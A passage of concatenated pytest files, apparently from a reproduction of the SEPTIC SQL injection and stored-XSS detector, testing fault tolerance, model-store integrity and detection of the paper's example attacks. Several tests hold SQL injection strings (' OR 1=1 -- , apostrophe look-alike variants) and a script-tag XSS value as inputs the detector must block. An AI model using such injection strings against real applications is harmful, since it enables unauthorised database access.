        with pytest.raises(WatchdogTimeout):
            dog.check()

    def test_deadline_is_relative_to_creation(self):
        clock = VirtualClock()
        clock.advance(100.0)  # pre-existing charge must not count
        dog = Watchdog(5.0, clock=clock)
        clock.advance(4.0)
        dog.check()


class TestCircuitBreaker(object):
    def test_trips_after_threshold_consecutive_faults(self):
        breaker = CircuitBreaker(threshold=3, cooldown=2)
        assert breaker.record_fault() is False
        assert breaker.record_fault() is False
        assert breaker.record_fault() is True
        assert breaker.is_open and breaker.trips == 1

    def test_success_resets_the_consecutive_count(self):
        breaker = CircuitBreaker(threshold=2)
        breaker.record_fault()
        breaker.record_success()
        assert breaker.record_fault() is False  # count restarted
        assert not breaker.is_open

    def test_cooldown_walks_open_to_half_open_then_closed(self):
        breaker = CircuitBreaker(threshold=1, cooldown=3)
        breaker.record_fault()
        assert breaker.state == BreakerState.OPEN
        assert breaker.on_query() is False
        assert breaker.on_query() is False
        assert breaker.on_query() is True  # third fault-free query
        assert breaker.state == BreakerState.HALF_OPEN
        assert breaker.record_success() is True
        assert breaker.state == BreakerState.CLOSED
        assert breaker.resets == 1

    def test_half_open_fault_re_trips(self):
        breaker = CircuitBreaker(threshold=5, cooldown=1)
        for _ in range(5):
            breaker.record_fault()
        breaker.on_query()
        assert breaker.state == BreakerState.HALF_OPEN
        assert breaker.record_fault() is True  # one strike in half-open
        assert breaker.state == BreakerState.OPEN
        assert breaker.trips == 2

    def test_fault_while_open_extends_cooldown_without_new_trip(self):
        breaker = CircuitBreaker(threshold=1, cooldown=5)
        breaker.record_fault()
        breaker.on_query()
        assert breaker.record_fault() is False
        assert breaker.trips == 1
        assert breaker.state_dict()["cooldown_left"] == 5

    def test_none_threshold_never_trips(self):
        breaker = CircuitBreaker(threshold=None)
        for _ in range(50):
            assert breaker.record_fault() is False
        assert not breaker.is_open


class TestStoreIntegrity(object):
    def test_put_journals_the_pristine_model(self):
        store = QMStore()
        store.put(_qid(), _model())
        stats = store.integrity_stats()
        assert stats["models"] == 1 and stats["journal_records"] == 1

    def test_paranoid_get_recovers_a_corrupted_entry(self):
        store = QMStore(paranoid=True)
        qid = _qid()
        model = _model()
        store.put(qid, model)
        pristine = model.canonical()
        model.nodes[0].kind = "XELECT"  # corrupt in place
        recovered = store.get(qid)
        assert recovered.canonical() == pristine
        assert store.corruption_detected == 1
        assert store.recoveries == 1

    def test_recovery_callback_fires(self):
        seen = []
        store = QMStore(paranoid=True, on_recover=seen.append)
        qid = _qid()
        model = _model()
        store.put(qid, model)
        model.nodes[0].kind = "XELECT"
        store.get(qid)
        assert seen == [qid.value]

    def test_non_paranoid_get_skips_verification_when_disarmed(self):
        store = QMStore()
        qid = _qid()
        model = _model()
        store.put(qid, model)
        model.nodes[0].kind = "XELECT"
        # hot path: no verification cost, corruption goes unnoticed here
        assert store.get(qid) is model
        # ...but the explicit sweep still finds it
        assert store.verify_integrity() == [qid.value]
        assert store.get(qid).canonical() != model.canonical() or \
            store.recoveries == 1

    def test_unrecoverable_entry_is_dropped(self):
        store = QMStore(paranoid=True)
        qid = _qid(external="site.php:1")
        model = _model()
        store.put(qid, model)
        del store._journal[:]  # simulate a lost journal
        model.nodes[0].kind = "XELECT"
        assert store.get(qid) is None  # unknown beats corrupted
        assert qid.value not in store._models
        assert store.models_for_external("site.php:1") == []

    def test_snapshot_restore_round_trip(self):
        store = QMStore()
        store.put(_qid("aaaa", external="x.php:1"), _model("one"))
        store.put(_qid("bbbb"), _model("two"))
        snap = store.snapshot()
        store.clear()
        assert len(store) == 0
        assert store.restore(snap) == 2
        assert len(store) == 2
        assert len(store.models_for_external("x.php:1")) == 1

    def test_rebuild_from_journal(self):
        store = QMStore()
        qid_a = _qid("aaaa", external="x.php:1")
        qid_b = _qid("bbbb")
        store.put(qid_a, _model("one"))
        store.put(qid_b, _model("two"))
        # corrupt the table copy; the journal still has the pristine one
        store._models[qid_a.value].nodes[0].kind = "XELECT"
        assert store.rebuild_from_journal() == 2
        assert store._models[qid_a.value].canonical() == \
            _model("one").canonical()

    def test_load_rejects_checksum_mismatch(self, tmp_path):
        path = str(tmp_path / "models.json")
        store = QMStore(path=path)
        qid_a = _qid("aaaa")
        qid_b = _qid("bbbb")
        store.put(qid_a, _model("one"))
        store.put(qid_b, _model("two"))
        store.save()
        # bit-rot one persisted model without touching its checksum
        import json
        with open(path) as handle:
            payload = json.load(handle)
        payload["models"][qid_a.value]["nodes"][0]["kind"] = "XELECT"
        with open(path, "w") as handle:
            json.dump(payload, handle)
        fresh = QMStore(path=path)
        assert fresh.load() == 1  # the damaged entry is dropped
        assert fresh.load_rejected == 1
        assert qid_b.value in fresh._models
        assert qid_a.value not in fresh._models


def _prevention_stack(fail_policy=FailPolicy.CLOSED, breaker=None,
                      watchdog_budget=5.0):
    septic = Septic(mode=Mode.TRAINING, logger=SepticLogger(verbose=False),
                    fail_policy=fail_policy, breaker=breaker,
                    watchdog_budget=watchdog_budget)
    database = Database(septic=septic)
    database.seed(TICKETS_SCHEMA)
    connection = Connection(database)
    connection.query(TICKET_QUERY % ("ID34FG", "1234"))
    septic.mode = Mode.PREVENTION
    return septic, connection


class TestFailPolicies(object):
    def test_fail_closed_drops_the_query(self):
        septic, conn = _prevention_stack(FailPolicy.CLOSED)
        plan = FaultPlan()
        plan.inject("detector.run", FaultKind.RAISE, times=1)
        with faults.armed(plan):
            outcome = conn.query(TICKET_QUERY % ("ZZ11AA", "9999"))
        assert not outcome.ok
        assert isinstance(outcome.error, QueryBlocked)
        assert "fail-closed" in str(outcome.error)
        assert septic.stats.internal_faults == 1
        assert septic.stats.fail_closed_drops == 1
        assert septic.logger.by_kind(EventKind.INTERNAL_FAULT)

    def test_fail_open_lets_the_query_run(self):
        septic, conn = _prevention_stack(FailPolicy.OPEN)
        plan = FaultPlan()
        plan.inject("detector.run", FaultKind.RAISE, times=1)
        with faults.armed(plan):
            outcome = conn.query(TICKET_QUERY % ("ZZ11AA", "9999"))
        assert outcome.ok and len(outcome.rows) == 1
        assert septic.stats.fail_open_passes == 1

    def test_training_mode_never_drops(self):
        septic, conn = _prevention_stack(FailPolicy.CLOSED)
        septic.mode = Mode.TRAINING
        plan = FaultPlan()
        plan.inject("store.put", FaultKind.RAISE)
        with faults.armed(plan):
            outcome = conn.query(
                "SELECT creditCard FROM tickets WHERE id = 1"
            )
        assert outcome.ok
        assert septic.stats.fail_open_passes == 1

    def test_invalid_fail_policy_rejected(self):
        with pytest.raises(ValueError):
            Septic(fail_policy="fail_sideways")

    def test_attack_verdict_is_not_a_fault(self):
        septic, conn = _prevention_stack(FailPolicy.CLOSED)
        outcome = conn.query(TICKET_QUERY % ("' OR 1=1 -- ", "1"))
        assert isinstance(outcome.error, QueryBlocked)
        assert septic.stats.internal_faults == 0
        assert not septic.breaker.is_open

    def test_watchdog_contains_a_hang(self):
        septic, conn = _prevention_stack(FailPolicy.CLOSED,
                                         watchdog_budget=5.0)
        plan = FaultPlan()
        plan.inject("detector.run", FaultKind.HANG, times=1,
                    hang_seconds=30.0)
        with faults.armed(plan):
            outcome = conn.query(TICKET_QUERY % ("ZZ11AA", "9999"))
        assert isinstance(outcome.error, QueryBlocked)
        assert septic.stats.watchdog_timeouts == 1
        assert septic.logger.by_kind(EventKind.WATCHDOG_TIMEOUT)

    def test_breaker_degrades_prevention_to_detection(self):
        breaker = CircuitBreaker(threshold=2, cooldown=2)
        septic, conn = _prevention_stack(FailPolicy.CLOSED, breaker=breaker)
        plan = FaultPlan()
        plan.inject("detector.run", FaultKind.RAISE, times=2)
        with faults.armed(plan):
            first = conn.query(TICKET_QUERY % ("ZZ11AA", "9999"))
            second = conn.query(TICKET_QUERY % ("ZZ11AA", "9999"))
        # first fault: breaker still closed -> fail-closed drop;
        # second fault trips it -> availability wins, query runs
        assert isinstance(first.error, QueryBlocked)
        assert second.ok
        assert septic.effective_mode == Mode.DETECTION
        assert septic.stats.breaker_trips == 1
        assert septic.logger.by_kind(EventKind.BREAKER_TRIPPED)
        # an attack during degradation is logged, not blocked
        attacked = conn.query(TICKET_QUERY % ("' OR 1=1 -- ", "1"))
        assert attacked.ok
        assert septic.stats.attacks_detected == 1
        assert septic.stats.queries_dropped == 0
        # cooldown of clean queries half-opens, one more closes it
        for _ in range(3):
            conn.query(TICKET_QUERY % ("ID34FG", "1234"))
        assert not septic.breaker.is_open
        assert septic.effective_mode == Mode.PREVENTION
        assert septic.stats.breaker_resets == 1
        assert septic.logger.by_kind(EventKind.BREAKER_RESET)

    def test_store_recovery_bumps_stats_and_logs(self):
        septic, conn = _prevention_stack(FailPolicy.CLOSED)
        plan = FaultPlan()
        plan.inject("store.get", FaultKind.CORRUPT, times=1)
        with faults.armed(plan):
            outcome = conn.query(TICKET_QUERY % ("ZZ11AA", "9999"))
        assert outcome.ok  # the corrupted model was rebuilt, not served
        assert septic.stats.store_recoveries == 1
        assert septic.logger.by_kind(EventKind.STORE_RECOVERED)

    def test_status_exposes_the_resilience_state(self):
        septic, _conn = _prevention_stack(FailPolicy.OPEN)
        status = septic.status()
        assert status["fail_policy"] == FailPolicy.OPEN
        assert status["effective_mode"] == Mode.PREVENTION
        assert status["breaker"]["state"] == BreakerState.CLOSED
        assert status["store_integrity"]["models"] == len(septic.store)
        assert status["stats"]["internal_faults"] == 0
