"""Tests for the QS&QM manager module (Figure 1)."""

from repro.core.manager import QSQMManager
from repro.sqldb.engine import Database, QueryContext
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate


def context_for(sql, comments=()):
    stmt = parse_one(sql)
    stack = validate(stmt)
    return QueryContext(sql, stmt, stack, list(comments), None)


class TestReceive(object):
    def test_builds_structure_and_model(self):
        manager = QSQMManager()
        lookup = manager.receive(
            context_for("SELECT a FROM t WHERE b = 1")
        )
        assert len(lookup.structure) == len(lookup.model_of_query) == 5
        assert lookup.query_id.internal
        assert not lookup.known

    def test_exact_hit_after_learning(self):
        manager = QSQMManager()
        first = manager.receive(context_for("SELECT a FROM t WHERE b = 1"))
        assert manager.learn(first)
        second = manager.receive(
            context_for("SELECT a FROM t WHERE b = 999")
        )
        assert second.known
        assert second.model == first.model_of_query

    def test_learning_is_idempotent(self):
        manager = QSQMManager()
        lookup = manager.receive(context_for("SELECT 1 FROM t"))
        assert manager.learn(lookup)
        assert not manager.learn(lookup)
        assert len(manager.store) == 1

    def test_candidates_surface_on_structural_miss(self):
        manager = QSQMManager()
        trained = manager.receive(
            context_for("SELECT a FROM t WHERE b = 1", ["septic:site"])
        )
        manager.learn(trained)
        mutated = manager.receive(
            context_for("SELECT a FROM t WHERE b = 1 OR 1=1",
                        ["septic:site"])
        )
        assert not mutated.known
        assert mutated.candidates == [trained.model_of_query]

    def test_no_candidates_without_external_id(self):
        manager = QSQMManager()
        trained = manager.receive(
            context_for("SELECT a FROM t WHERE b = 1")
        )
        manager.learn(trained)
        mutated = manager.receive(
            context_for("SELECT a FROM t WHERE b = 1 OR 1=1")
        )
        assert not mutated.known
        assert mutated.candidates == []

    def test_septic_exposes_manager_collaborators(self):
        from repro.core.septic import Septic

        septic = Septic()
        assert septic.store is septic.manager.store
        assert septic.id_generator is septic.manager.id_generator
