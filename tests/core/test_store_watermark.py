"""QM store co-persistence with the data plane (the WAL watermark).

After a crash, the reloaded model store must say *which data-plane
state it was trained against*: every save stamps the database's durable
LSN into the payload, loads carry it back out, and ``autosave`` makes
each learned model durable the moment it is accepted — so a kill right
after training loses nothing.
"""

import os

from repro.core.septic import Mode, Septic, SepticConfig
from repro.core.store import QMStore
from repro.sqldb import wal
from repro.sqldb.engine import Database

from tests.core.test_store import qid_for


class TestWatermark(object):
    def test_save_stamps_the_provider_lsn(self, tmp_path):
        path = str(tmp_path / "models.json")
        store = QMStore(path=path, lsn_provider=lambda: 42)
        qid, model = qid_for("SELECT a FROM t")
        store.put(qid, model)
        store.save()
        fresh = QMStore(path=path)
        fresh.load()
        assert fresh.wal_lsn == 42
        assert len(fresh) == 1

    def test_without_provider_watermark_defaults_to_zero(self, tmp_path):
        path = str(tmp_path / "models.json")
        store = QMStore(path=path)
        qid, model = qid_for("SELECT a FROM t")
        store.put(qid, model)
        store.save()
        fresh = QMStore(path=path)
        fresh.load()
        assert fresh.wal_lsn == 0

    def test_autosave_makes_every_put_durable(self, tmp_path):
        path = str(tmp_path / "models.json")
        store = QMStore(path=path, autosave=True, lsn_provider=lambda: 7)
        qid, model = qid_for("SELECT a FROM t")
        store.put(qid, model)
        # no explicit save(): the put already reached disk
        fresh = QMStore(path=path)
        fresh.load()
        assert len(fresh) == 1
        assert fresh.wal_lsn == 7


class TestBindStore(object):
    def _septic(self):
        return Septic(mode=Mode.TRAINING,
                      config=SepticConfig.from_flags("YY"))

    def test_bind_store_tracks_the_database_watermark(self, tmp_path):
        septic = self._septic()
        database = Database.recover(str(tmp_path), septic=septic)
        septic.bind_store(database)
        database.run("CREATE TABLE t (id INT)")
        database.run("INSERT INTO t (id) VALUES (1)")
        qid, model = qid_for("SELECT id FROM t")
        septic.store.put(qid, model)  # autosave stamps durable_lsn
        lsn = database.durable_lsn
        assert lsn >= 2
        database.close()
        fresh = QMStore(path=wal.qm_store_path(str(tmp_path)))
        fresh.load()
        assert fresh.wal_lsn == lsn
        # the explicit put is there (training also learned the DML above)
        assert fresh.get(qid) == model

    def test_bind_store_requires_a_data_dir_or_path(self):
        septic = self._septic()
        database = Database()  # no WAL, no data dir
        try:
            septic.bind_store(database)
        except ValueError:
            pass
        else:
            raise AssertionError("bind_store accepted a dir-less database")

    def test_reload_models_round_trips(self, tmp_path):
        septic = self._septic()
        database = Database.recover(str(tmp_path), septic=septic)
        septic.bind_store(database)
        qid, model = qid_for("SELECT a FROM t")
        septic.store.put(qid, model)
        # forge amnesia, then reload from the co-persisted file
        septic.store._models.clear()
        assert len(septic.store) == 0
        loaded = septic.reload_models()
        assert loaded == 1
        assert septic.store.get(qid) == model
        database.close()

    def test_default_store_path_lives_in_the_data_dir(self, tmp_path):
        septic = self._septic()
        database = Database.recover(str(tmp_path), septic=septic)
        septic.bind_store(database)
        qid, model = qid_for("SELECT a FROM t")
        septic.store.put(qid, model)
        assert os.path.exists(wal.qm_store_path(str(tmp_path)))
        database.close()
