"""Tests for the status display and the event-register export."""

import json

from repro.core.logger import EventKind, SepticLogger
from repro.core.septic import Mode, Septic, SepticConfig
from tests.conftest import TICKET_QUERY


class TestStatus(object):
    def test_status_snapshot(self, septic_db):
        septic, _, conn = septic_db
        conn.query(TICKET_QUERY % ("x' OR 1=1-- ", "0"))
        status = septic.status()
        assert status["mode"] == Mode.PREVENTION
        assert status["detect_sqli"] is True
        assert status["models"] >= 1
        assert status["stats"]["attacks_detected"] == 1
        assert "StoredXSSPlugin" in status["plugins"]

    def test_status_reflects_config(self):
        septic = Septic(config=SepticConfig.from_flags("NY"))
        status = septic.status()
        assert status["detect_sqli"] is False
        assert status["detect_stored"] is True


class TestExport(object):
    def test_export_json_roundtrip(self, tmp_path, septic_db):
        septic, _, conn = septic_db
        conn.query(TICKET_QUERY % ("x' OR 1=1-- ", "0"))
        path = str(tmp_path / "events.json")
        septic.logger.export_json(path)
        with open(path) as handle:
            events = json.load(handle)
        kinds = [event["kind"] for event in events]
        assert EventKind.ATTACK_DETECTED in kinds
        assert EventKind.QUERY_DROPPED in kinds
        attack = next(e for e in events
                      if e["kind"] == EventKind.ATTACK_DETECTED)
        assert attack["attack_type"] == "SQLI"
        assert attack["step"] in (1, 2)
        assert attack["query_id"]

    def test_export_empty_register(self, tmp_path):
        logger = SepticLogger()
        path = str(tmp_path / "empty.json")
        logger.export_json(path)
        with open(path) as handle:
            assert json.load(handle) == []
