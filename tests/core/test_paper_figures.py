"""Pin the paper's figures exactly (experiments E2–E4).

Each test reproduces one figure of the paper end to end — from the SQL
text through decoding, parsing, validation, QS/QM construction and the
detection algorithm — and asserts the artefact the paper prints.
"""

from repro.core.detector import AttackDetector
from repro.core.query_model import BOTTOM, QueryModel
from repro.core.query_structure import QueryStructure
from repro.sqldb.charset import decode_query
from repro.sqldb.items import ItemKind
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate

TICKET_SQL = ("SELECT * FROM tickets WHERE reservID = 'ID34FG' "
              "AND creditCard = 1234")


def qs_of(sql, catalog=None):
    return QueryStructure.from_stack(
        validate(parse_one(decode_query(sql)), catalog)
    )


class TestFigure2(object):
    """QS and QM of the ticket query."""

    def test_qs_nodes_bottom_to_top(self, db):
        qs = qs_of(TICKET_SQL, db.tables)
        assert [(n.kind, n.value) for n in qs] == [
            (ItemKind.FROM_TABLE, "tickets"),
            (ItemKind.SELECT_FIELD, "*"),
            (ItemKind.FIELD_ITEM, "reservid"),
            (ItemKind.STRING_ITEM, "ID34FG"),
            (ItemKind.FUNC_ITEM, "="),
            (ItemKind.FIELD_ITEM, "creditcard"),
            (ItemKind.INT_ITEM, 1234),
            (ItemKind.FUNC_ITEM, "="),
            (ItemKind.COND_ITEM, "AND"),
        ]

    def test_qm_replaces_data_with_bottom(self, db):
        qm = QueryModel.from_structure(qs_of(TICKET_SQL, db.tables))
        assert qm[3].kind == ItemKind.STRING_ITEM
        assert qm[3].value is BOTTOM
        assert qm[6].kind == ItemKind.INT_ITEM
        assert qm[6].value is BOTTOM
        # element nodes keep their data
        assert qm[2].value == "reservid"
        assert qm[8].value == "AND"

    def test_rendering_matches_paper_layout(self, db):
        qs = qs_of(TICKET_SQL, db.tables)
        lines = qs.render().splitlines()
        # the paper prints top of stack first: COND_ITEM AND on top,
        # FROM_TABLE tickets at the bottom
        assert lines[0].split() == ["COND_ITEM", "AND"]
        assert lines[-1].split() == ["FROM_TABLE", "tickets"]


class TestFigure3(object):
    """Second-order attack: ID34FG'-- via U+02BC; structural detection."""

    ATTACK_SQL = ("SELECT * FROM tickets WHERE reservID = 'ID34FGʼ-- ' "
                  "AND creditCard = 0")

    def test_decoding_rewrites_the_query(self):
        decoded = decode_query(self.ATTACK_SQL)
        assert "ID34FG'-- " in decoded

    def test_attack_qs_is_figure3(self, db):
        qs = qs_of(self.ATTACK_SQL, db.tables)
        assert [(n.kind, n.value) for n in qs] == [
            (ItemKind.FROM_TABLE, "tickets"),
            (ItemKind.SELECT_FIELD, "*"),
            (ItemKind.FIELD_ITEM, "reservid"),
            (ItemKind.STRING_ITEM, "ID34FG"),
            (ItemKind.FUNC_ITEM, "="),
        ]

    def test_detected_in_step_1(self, db):
        qm = QueryModel.from_structure(qs_of(TICKET_SQL, db.tables))
        detection = AttackDetector().detect_sqli(
            qs_of(self.ATTACK_SQL, db.tables), qm
        )
        assert detection.is_attack
        assert detection.step == 1
        assert "5" in detection.detail and "9" in detection.detail


class TestFigure4(object):
    """Syntax mimicry: ID34FG' AND 1=1-- ; syntactical detection."""

    ATTACK_SQL = ("SELECT * FROM tickets WHERE reservID = "
                  "'ID34FGʼ AND 1=1-- ' AND creditCard = 0")

    def test_attack_qs_is_figure4(self, db):
        qs = qs_of(self.ATTACK_SQL, db.tables)
        assert [(n.kind, n.value) for n in qs] == [
            (ItemKind.FROM_TABLE, "tickets"),
            (ItemKind.SELECT_FIELD, "*"),
            (ItemKind.FIELD_ITEM, "reservid"),
            (ItemKind.STRING_ITEM, "ID34FG"),
            (ItemKind.FUNC_ITEM, "="),
            (ItemKind.INT_ITEM, 1),
            (ItemKind.INT_ITEM, 1),
            (ItemKind.FUNC_ITEM, "="),
            (ItemKind.COND_ITEM, "AND"),
        ]

    def test_node_counts_equal(self, db):
        qm = QueryModel.from_structure(qs_of(TICKET_SQL, db.tables))
        qs = qs_of(self.ATTACK_SQL, db.tables)
        assert len(qs) == len(qm) == 9

    def test_detected_in_step_2_at_node_5(self, db):
        qm = QueryModel.from_structure(qs_of(TICKET_SQL, db.tables))
        detection = AttackDetector().detect_sqli(
            qs_of(self.ATTACK_SQL, db.tables), qm
        )
        assert detection.is_attack
        assert detection.step == 2
        # the paper: <INT_ITEM, 1> from QS does not match
        # <FIELD_ITEM, creditCard> from QM (fourth row top-down = node 5)
        assert "node 5" in detection.detail
        assert "INT_ITEM" in detection.detail
        assert "creditcard" in detection.detail
