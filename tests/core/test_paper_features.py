"""The paper's §II-B feature list, as executable claims.

Each test pins one bullet of the feature comparison the paper makes
against other mechanisms.
"""

from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from tests.conftest import TICKETS_SCHEMA


def _protected():
    septic = Septic(mode=Mode.TRAINING, logger=SepticLogger())
    database = Database(septic=septic)
    database.seed(TICKETS_SCHEMA)
    return septic, database


class TestServerSideLanguageIndependence(object):
    """SSLE support is minimal and OPTIONAL: SEPTIC processes queries
    with or without external identifiers."""

    def test_queries_without_external_ids_processed(self):
        septic, database = _protected()
        conn = Connection(database)
        conn.query("SELECT * FROM tickets WHERE id = 1")
        septic.mode = Mode.PREVENTION
        outcome = conn.query("SELECT * FROM tickets WHERE id = 2")
        assert outcome.ok
        assert septic.stats.queries_processed >= 2


class TestNoClientConfiguration(object):
    """DBMS client connectors need no reconfiguration."""

    def test_vanilla_connection_is_protected(self):
        septic, database = _protected()
        conn = Connection(database)  # no SEPTIC-specific options exist
        conn.query("/* septic:s:1 */ SELECT * FROM tickets WHERE id = 1")
        septic.mode = Mode.PREVENTION
        attack = conn.query(
            "/* septic:s:1 */ SELECT * FROM tickets WHERE id = 1 OR 1=1"
        )
        assert not attack.ok


class TestClientDiversity(object):
    """Several clients of different types against one SEPTIC server."""

    def test_multiple_connections_all_protected(self):
        septic, database = _protected()
        clients = [
            Connection(database),
            Connection(database, charset="utf8"),
            Connection(database, charset="latin1"),
            Connection(database, multi_statements=True),
        ]
        for conn in clients:
            conn.query("/* septic:s:2 */ SELECT * FROM tickets "
                       "WHERE reservID = 'a'")
        septic.mode = Mode.PREVENTION
        for conn in clients:
            benign = conn.query("/* septic:s:2 */ SELECT * FROM tickets "
                                "WHERE reservID = 'b'")
            assert benign.ok
            attack = conn.query(
                "/* septic:s:2 */ SELECT * FROM tickets "
                "WHERE reservID = 'b' OR 1=1"
            )
            assert not attack.ok

    def test_prepared_and_literal_clients_share_models(self):
        septic, database = _protected()
        literal_client = Connection(database)
        prepared_client = Connection(database)
        literal_client.query("/* septic:s:3 */ SELECT * FROM tickets "
                             "WHERE creditCard = 5")
        septic.mode = Mode.PREVENTION
        ps = prepared_client.prepare(
            "/* septic:s:3 */ SELECT * FROM tickets WHERE creditCard = ?"
        )
        assert prepared_client.execute_prepared(ps, 1234).ok


class TestNoSourceModificationOrAnalysis(object):
    """The application is untouched: protection comes from training over
    its normal traffic, not from rewriting or analysing its code."""

    def test_app_runs_identically_with_and_without_septic(self):
        from repro.apps.waspmon import WaspMon

        plain = WaspMon(Database())
        septic = Septic(mode=Mode.TRAINING)
        shielded = WaspMon(Database(septic=septic))
        for request in plain.benign_requests():
            a = plain.handle(request)
            b = shielded.handle(request)
            assert a.status == b.status


class TestTwoWaysOfLearning(object):
    """Unlike GreenSQL/Percona (training phase only), SEPTIC also learns
    incrementally in normal mode."""

    def test_training_phase_learning(self):
        septic, database = _protected()
        conn = Connection(database)
        before = len(septic.store)
        conn.query("SELECT COUNT(*) FROM tickets")
        assert len(septic.store) == before + 1

    def test_incremental_learning_in_normal_mode(self):
        septic, database = _protected()
        septic.mode = Mode.PREVENTION
        conn = Connection(database)
        before = len(septic.store)
        outcome = conn.query("SELECT MAX(creditCard) FROM tickets")
        assert outcome.ok
        assert len(septic.store) == before + 1
        assert septic.logger.new_models[-1].detail == "incremental"
