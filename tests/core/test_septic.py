"""End-to-end tests for the SEPTIC facade."""

import pytest

from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic, SepticConfig
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from tests.conftest import TICKET_QUERY, TICKETS_SCHEMA


class TestConfigFlags(object):
    def test_from_flags(self):
        config = SepticConfig.from_flags("YN")
        assert config.detect_sqli and not config.detect_stored
        assert config.flags == "YN"

    def test_from_flags_lowercase(self):
        assert SepticConfig.from_flags("ny").flags == "NY"

    @pytest.mark.parametrize("bad", ["Y", "YYY", "AB", ""])
    def test_invalid_flags(self, bad):
        with pytest.raises(ValueError):
            SepticConfig.from_flags(bad)

    def test_defaults(self):
        config = SepticConfig()
        assert config.flags == "YY"
        assert config.incremental_learning


class TestDetectionPaths(object):
    def test_attack_detected_via_exact_model(self, septic_db):
        septic, _, conn = septic_db
        outcome = conn.query(TICKET_QUERY % ("x' AND 1=1-- ", "0"))
        assert not outcome.ok
        assert septic.stats.sqli_detected == 1

    def test_attack_detected_via_call_site_candidates(self, septic_db):
        septic, _, conn = septic_db
        # the structural change means the exact full ID misses; the
        # external identifier routes to the trained call-site models
        outcome = conn.query(TICKET_QUERY % ("x'-- ", "0"))
        assert not outcome.ok

    def test_attack_without_external_id_learned_for_review(self):
        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        conn = Connection(database)
        conn.query("SELECT * FROM tickets WHERE reservID = 'a'")
        septic.mode = Mode.PREVENTION
        before = len(septic.store)
        # mutated query, no call-site comment: SEPTIC cannot attribute it
        # to a known model, so it is learned incrementally and flagged
        outcome = conn.query(
            "SELECT * FROM tickets WHERE reservID = 'a' OR 1=1"
        )
        assert outcome.ok
        assert len(septic.store) == before + 1
        assert septic.stats.unknown_queries == 1

    def test_incremental_learning_can_be_disabled(self):
        septic = Septic(
            mode=Mode.PREVENTION,
            config=SepticConfig(incremental_learning=False),
        )
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        conn = Connection(database)
        before = len(septic.store)
        assert conn.query("SELECT COUNT(*) FROM tickets").ok
        assert len(septic.store) == before

    def test_sqli_detection_disabled(self, septic_db):
        septic, _, conn = septic_db
        septic.config.detect_sqli = False
        outcome = conn.query(TICKET_QUERY % ("x' AND 1=1-- ", "0"))
        assert outcome.ok  # nothing watches the structure

    def test_stored_detection_disabled(self):
        septic = Septic(mode=Mode.PREVENTION,
                        config=SepticConfig.from_flags("YN"))
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        conn = Connection(database)
        outcome = conn.query(
            "INSERT INTO tickets (reservID, creditCard) "
            "VALUES ('<script>x</script>', 1)"
        )
        assert outcome.ok

    def test_stored_detection_runs_even_without_model(self):
        septic = Septic(mode=Mode.PREVENTION)
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        conn = Connection(database)
        outcome = conn.query(
            "INSERT INTO tickets (reservID, creditCard) "
            "VALUES ('<script>x</script>', 1)"
        )
        assert not outcome.ok

    def test_malicious_unknown_query_not_learned(self):
        septic = Septic(mode=Mode.PREVENTION)
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        conn = Connection(database)
        before = len(septic.store)
        conn.query(
            "INSERT INTO tickets (reservID, creditCard) "
            "VALUES ('<script>x</script>', 1)"
        )
        assert len(septic.store) == before


class TestStats(object):
    def test_counters(self, septic_db):
        septic, _, conn = septic_db
        base = septic.stats.queries_processed
        conn.query(TICKET_QUERY % ("ok", "1"))
        conn.query(TICKET_QUERY % ("x' AND 1=1-- ", "0"))
        stats = septic.stats.as_dict()
        assert stats["queries_processed"] == base + 2
        assert stats["attacks_detected"] == 1
        assert stats["queries_dropped"] == 1

    def test_blocked_record_attached_to_error(self, septic_db):
        septic, _, conn = septic_db
        outcome = conn.query(TICKET_QUERY % ("x' AND 1=1-- ", "0"))
        assert outcome.error.record is not None
        assert outcome.error.record.attack_type == "SQLI"

    def test_ddl_not_processed_by_septic(self, septic_db):
        septic, _, conn = septic_db
        before = septic.stats.queries_processed
        conn.query("SHOW TABLES")
        assert septic.stats.queries_processed == before


class TestMultipleShapesPerCallSite(object):
    def test_two_trained_shapes_both_pass(self):
        septic = Septic(mode=Mode.TRAINING, logger=SepticLogger())
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        conn = Connection(database)
        # a call site that legitimately builds two query shapes
        conn.query("/* septic:s:1 */ SELECT * FROM tickets "
                   "WHERE reservID = 'a'")
        conn.query("/* septic:s:1 */ SELECT * FROM tickets "
                   "WHERE reservID = 'a' AND creditCard = 1")
        septic.mode = Mode.PREVENTION
        assert conn.query("/* septic:s:1 */ SELECT * FROM tickets "
                          "WHERE reservID = 'b'").ok
        assert conn.query("/* septic:s:1 */ SELECT * FROM tickets "
                          "WHERE reservID = 'b' AND creditCard = 2").ok
        # but a third shape from the same site is an attack
        assert not conn.query(
            "/* septic:s:1 */ SELECT * FROM tickets "
            "WHERE reservID = 'b' OR 1=1"
        ).ok
