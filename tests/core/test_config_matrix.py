"""The four Figure-5 configurations (NN/YN/NY/YY) × attack classes:
which detector is armed decides exactly which attacks get through."""

import pytest

from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic, SepticConfig
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database

SCHEMA = (
    "CREATE TABLE notes (id INT PRIMARY KEY AUTO_INCREMENT, "
    "body VARCHAR(200), author VARCHAR(40));"
    "INSERT INTO notes (body, author) VALUES ('hello', 'ann');"
)
TRAINED_SELECT = ("/* septic:s:1 */ SELECT * FROM notes "
                  "WHERE author = '%s' AND id = %s")
TRAINED_INSERT = ("/* septic:s:2 */ INSERT INTO notes (body, author) "
                  "VALUES ('%s', '%s')")
SQLI = TRAINED_SELECT % ("ann' OR 1=1-- ", "0")
STORED = TRAINED_INSERT % ("<script>alert(1)</script>", "mallory")


def stack_for(flags):
    septic = Septic(
        mode=Mode.TRAINING,
        config=SepticConfig.from_flags(flags),
        logger=SepticLogger(),
    )
    database = Database(septic=septic)
    database.seed(SCHEMA)
    conn = Connection(database)
    conn.query(TRAINED_SELECT % ("ann", "1"))
